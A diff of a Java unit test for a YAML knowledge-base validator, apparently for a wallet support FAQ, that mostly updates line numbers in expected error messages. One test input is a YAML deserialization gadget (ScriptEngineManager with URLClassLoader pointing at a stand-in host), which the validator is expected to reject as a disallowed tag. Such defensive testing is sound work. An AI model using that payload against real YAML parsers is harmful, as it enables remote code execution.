@@ -38,14 +38,14 @@ class BrokenKnowledgeBaseTest {
                 Arguments.of("missing required field", "    advice: {zh: 尽快联系。, en: Contact support soon.}\n", "",
                         "64:5: topic is missing required field 'advice'"),
                 Arguments.of("missing translation", "title: {zh: 钱没到账, en: Money has not arrived}", "title: {zh: 钱没到账}",
-                        "73:12: faq 'funds-not-received' title is missing the English (en) translation"),
+                        "88:12: faq 'funds-not-received' title is missing the English (en) translation"),
                 Arguments.of("empty translation", "answer: {zh: 先查看交易状态。, en: Check the transaction status first.}",
                         "answer: {zh: '', en: Check the transaction status first.}",
-                        "74:18: faq 'funds-not-received' answer.zh must be a non-empty string"),
+                        "89:18: faq 'funds-not-received' answer.zh must be a non-empty string"),
                 Arguments.of("dangling related id", "related: []", "related: [funds-not-recieved]",
-                        "81:15: faq 'funds-not-received' related refers to unknown faq 'funds-not-recieved' (did you mean 'funds-not-received'?)"),
+                        "96:15: faq 'funds-not-received' related refers to unknown faq 'funds-not-recieved' (did you mean 'funds-not-received'?)"),
                 Arguments.of("dangling topic of a faq", "    topic: funds", "    topic: money",
-                        "78:12: faq 'funds-not-received' topic refers to unknown topic 'money'"),
+                        "93:12: faq 'funds-not-received' topic refers to unknown topic 'money'"),
                 Arguments.of("unknown channel in a topic", "channels: [hotline, website, email, social]",
                         "channels: [hotline, website, mail, social]",
                         "69:34: topic 'funds' channels refers to unknown channel 'mail' (did you mean 'email'?)"),
@@ -53,9 +53,9 @@ class BrokenKnowledgeBaseTest {
                         + "    urgency: low\n    advice: {zh: a, en: a}\n    channels: [website]\n    faqs: []\n  - id: funds\n",
                         "71:9: duplicate topic id 'funds' (first defined at line 64)"),
                 Arguments.of("duplicate key", "    tags: [funds]\n", "    tags: [funds]\n    tags: [money]\n",
-                        "78:5: duplicate key 'tags' (first defined at line 77)"),
+                        "93:5: duplicate key 'tags' (first defined at line 92)"),
                 Arguments.of("bad id", "  - id: funds-not-received", "  - id: Funds Not Received",
-                        "72:9: faq id 'Funds Not Received' must be lowercase letters and digits joined by '-' (like 'forgot-password')"),
+                        "87:9: faq id 'Funds Not Received' must be lowercase letters and digits joined by '-' (like 'forgot-password')"),
                 Arguments.of("bad urgency", "urgency: high", "urgency: soon",
                         "67:14: topic 'funds' urgency 'soon' is not one of low, normal, high, critical"),
                 Arguments.of("bad region code", "    - code: DE", "    - code: Germany",
@@ -69,7 +69,7 @@ class BrokenKnowledgeBaseTest {
                         "version: 1\nexploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
                         "3:10: tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed; a knowledge base holds only plain strings, numbers, lists and mappings"),
                 Arguments.of("malformed YAML", "    tags: [funds]", "    tags: [funds",
-                        "78:10: malformed YAML: while parsing a flow sequence: expected ',' or ']', but got :"),
+                        "93:10: malformed YAML: while parsing a flow sequence: expected ',' or ']', but got :"),
                 Arguments.of("sequence where a mapping belongs", "product:\n  name: {zh: 测试钱包, en: Test Wallet}\n  official_domains: [okpay.example]\n  notice: {zh: 示例数据。, en: Sample data.}\n",
                         "product: [a, b]\n", "3:10: product must be a mapping with name, notice, official_domains"));
     }
@@ -179,7 +179,7 @@ class BrokenKnowledgeBaseTest {
         assertEquals(4, result.exitCode());
         assertEquals("", result.out());
         assertTrue(result.err().startsWith("error: knowledge base '" + file + "' has 2 problems:\n" + file + ":67:14: "), result.err());
-        assertTrue(result.err().contains(file + ":81:15: faq 'funds-not-received' related refers to unknown faq 'nope'"), result.err());
+        assertTrue(result.err().contains(file + ":96:15: faq 'funds-not-received' related refers to unknown faq 'nope'"), result.err());
     }
 
     @Test
